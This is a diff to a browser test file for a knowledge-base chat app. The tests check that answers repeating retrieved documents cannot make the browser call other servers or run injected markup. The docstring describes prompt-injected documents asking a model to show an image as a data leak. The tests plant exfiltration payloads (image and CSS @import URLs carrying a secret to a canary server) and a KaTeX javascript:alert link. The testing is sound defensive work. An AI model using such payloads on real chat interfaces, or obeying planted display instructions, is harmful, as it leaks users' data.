@@ -1,7 +1,12 @@
 """What a page may make the browser do, checked in real Chromium: an answer (written by the
 model from documents anyone can edit) that holds images or style sheets on another server
 must not make the browser fetch them — the fetch's URL can carry what the page shows (a
-prompt-injected document asking the model to "show this image" is the classic leak)."""
+prompt-injected document asking the model to "show this image" is the classic leak).
+
+The hostile text is planted in a document the model retrieves and repeats: what the model
+invents itself is already removed or marked by the grounding check (tests/test_grounding.py),
+but text that the evidence holds passes that check, so the page itself must render it harmlessly.
+"""
 
 from __future__ import annotations
 
@@ -10,10 +15,18 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
-from tests.fakellm import FakeLLM, Say
+from tests.fakellm import Call, FakeLLM, Say
 from tests.ui.conftest import ask, sign_in
 
 pytestmark = pytest.mark.browser
+
+
+def plant(app, folder, name: str, text: str) -> None:
+    """Ingest a plain-text document holding ``text`` into the running app's knowledge base."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / name).write_text(text, encoding="utf-8")
+    report = app.ctx.kb.ingest([folder])
+    assert {f.status for f in report.files} == {"ok"}, report.to_dict()
 
 
 @pytest.fixture
@@ -36,15 +49,16 @@ def canary():
     server.server_close()
 
 
-def test_answers_cannot_make_the_browser_call_another_server(start_app, browser, canary):
+def test_answers_cannot_make_the_browser_call_another_server(start_app, browser, canary, tmp_path):
     url, hits = canary
     llm = FakeLLM().start()
     try:
         app = start_app(llm="openai", openai={"model_server": llm.url, "model": "fake"})
-        answer = (f"The floor price is ![chart]({url}/md-image.png?secret=41800) and "
-                  f'<img src="{url}/html-image.png?secret=41800"> and '
-                  f"<style>@import url({url}/style.css);</style> done. Beacon-end.")
-        llm.enqueue(Say(answer), Say(answer))
+        payload = (f"The floor price chart is ![chart]({url}/md-image.png?secret=41800) and "
+                   f'<img src="{url}/html-image.png?secret=41800"> and '
+                   f"<style>@import url({url}/style.css);</style> shown here")
+        plant(app, tmp_path / "planted", "price_chart.txt", f"Floor price chart\n\n{payload}.\n")
+        llm.enqueue(Call("doc_retrieve", {"query": "floor price chart"}), Say(f"{payload} [1]. Beacon-end."))
         page = browser.new_page()
         sign_in(page, app.url, "alice")
         ask(page, "What is the floor price?")
@@ -66,7 +80,7 @@ def test_answers_cannot_make_the_browser_call_another_server(start_app, browser,
         llm.stop()
 
 
-def test_text_between_dollar_signs_is_shown_as_written(start_app, browser):
+def test_text_between_dollar_signs_is_shown_as_written(start_app, browser, tmp_path):
     """The chat rendered $$…$$ as LaTeX (Gradio's default): text from documents, glossary fields
     and answers — already escaped as HTML — was reinterpreted by KaTeX (\\href, \\htmlClass, …)
     and shown as something else than it says. A knowledge-base chat shows text as written."""
@@ -74,7 +88,8 @@ def test_text_between_dollar_signs_is_shown_as_written(start_app, browser):
     try:
         app = start_app(llm="openai", openai={"model_server": llm.url, "model": "fake"})
         literal = "$$\\href{javascript:alert(1)}{click here}$$ costs $$x^2$$"
-        llm.enqueue(Say(f"Price list: {literal} Beacon-end."))
+        plant(app, tmp_path / "planted", "price_list.txt", f"Price list\n\nThe price list: {literal}.\n")
+        llm.enqueue(Call("doc_retrieve", {"query": "price list"}), Say(f"The price list: {literal} [1]. Beacon-end."))
         page = browser.new_page()
         dialogs = []
         page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
